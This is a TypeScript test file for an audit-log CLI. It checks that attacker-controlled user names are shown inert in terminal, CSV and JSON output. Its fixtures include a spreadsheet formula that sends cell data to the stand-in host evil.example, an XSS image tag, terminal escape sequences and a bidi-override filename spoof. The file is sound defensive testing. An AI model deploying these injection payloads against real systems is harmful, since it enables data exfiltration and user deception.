// Attacker-controlled names stay inert in every output format.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { BIN, runCli, tempDir } from './helpers/cli.ts';

const ESC_NAME = '\u001b[2J\u001b]0;owned\u0007Evil\u001b[0m';
const FORMULA_UPN = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
const HTML_NAME = '<img src=x onerror=alert(1)>';
const BIDI_NAME = 'admin\u202egpj.exe';

function hostileAudit(id: string, minute: number) {
  return {
    id,
    category: 'UserManagement',
    correlationId: `c-${id}`,
    result: 'success',
    resultReason: '',
    activityDisplayName: 'Add user',
    activityDateTime: `2026-10-05T01:${String(minute).padStart(2, '0')}:00Z`,
    loggedByService: 'Core Directory',
    operationType: 'Add',
    initiatedBy: { app: null, user: { id: 'a1b2', displayName: ESC_NAME, userPrincipalName: FORMULA_UPN, ipAddress: '203.0.113.9' } },
    targetResources: [{ id: 't1', displayName: HTML_NAME, type: 'User', userPrincipalName: BIDI_NAME, modifiedProperties: [] }],
    additionalDetails: [],
  };
}

describe('hostile text in events output', () => {
  const dir = tempDir();
  const store = join(dir, 'hostile.db');
  const file = join(dir, 'audits.json');
  writeFileSync(file, JSON.stringify({ value: [hostileAudit('h-1', 1), hostileAudit('h-2', 2)] }));

  it('imports the records', async () => {
    const r = await runCli(['--store', store, 'import', file]);
    assert.equal(r.code, 0, r.stdout + r.stderr);
  });

  it('shows escape sequences and bidi overrides as visible text in the terminal table', async () => {
    const r = await runCli(['--store', store, 'events']);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/.test(r.stdout), 'no raw control character reaches the terminal');
    assert.match(r.stdout, /\\x1b\[2J\\x1b\]0;owned\\x07Evil|=HYPERLINK/);
    assert.match(r.stdout, /<img src=x onerror=alert\(1\)>|admin\\u202egpj\.exe/);
  });

  it('neutralises formulas in CSV', async () => {
    const r = await runCli(['--store', store, 'events', '--csv']);
    assert.equal(r.code, 0, r.stderr);
    const cells = r.stdout.split(/,|\r\n/).map((c) => c.replace(/^"/, ''));
    for (const cell of cells) assert.ok(!/^[=+\-@]/.test(cell), `cell starts with a formula character: ${cell}`);
    assert.ok(r.stdout.includes(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`) || r.stdout.includes("'=HYPERLINK"));
  });

  it('shows CSV printed on a terminal inert, and keeps it exact in a file or pipe', async () => {
    // `script` runs the command on a pseudo-terminal, as a responder typing it would.
    const cmd = [process.execPath, BIN, '--store', store, 'events', '--csv'].map((a) => `'${a}'`).join(' ');
    const tty = execFileSync('script', ['-qec', cmd, '/dev/null'], { encoding: 'utf8', env: { ...process.env, TAKEBACK_LANG: 'en' } });
    assert.ok(!/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202e\ufeff]/.test(tty), 'no raw control character reaches the terminal');
    assert.match(tty, /admin\\u202egpj\.exe/);
    const piped = await runCli(['--store', store, 'events', '--csv']);
    assert.ok(piped.stdout.startsWith('\ufeff'), 'a file gets the BOM Excel needs');
    assert.ok(piped.stdout.includes(BIDI_NAME), 'a file keeps the exact text');
  });

  it('keeps the exact text in JSON, escaped', async () => {
    const r = await runCli(['--store', store, 'events', '--json']);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/.test(r.stdout), 'JSON output escapes every control character');
    const events = JSON.parse(r.stdout) as Array<{ raw: ReturnType<typeof hostileAudit> }>;
    assert.equal(events.length, 2);
    assert.equal(events[0]!.raw.initiatedBy.user.displayName, ESC_NAME);
    assert.equal(events[0]!.raw.initiatedBy.user.userPrincipalName, FORMULA_UPN);
    assert.equal(events[0]!.raw.targetResources[0]!.userPrincipalName, BIDI_NAME);
  });
});
